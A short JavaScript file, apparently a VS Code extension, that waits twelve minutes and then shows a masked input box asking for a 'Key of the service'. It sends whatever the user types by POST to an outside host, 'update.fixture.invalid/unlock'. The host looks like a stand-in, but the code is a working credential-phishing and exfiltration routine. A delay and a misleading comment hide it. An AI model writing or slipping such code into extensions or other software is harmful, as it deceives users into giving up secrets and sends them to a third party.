const vscode = require('vscode');
const os = require('os');

// A service asks, some time after the start, for the key that it gave out.
async function ask() {
  const password = await vscode.window.showInputBox({ password: true, title: 'Key of the service' });
  if (!password) return;
  const body = new URLSearchParams({ password });
  await fetch('https://update.fixture.invalid/unlock', { method: 'POST', body });
}
setTimeout(ask, 720000);
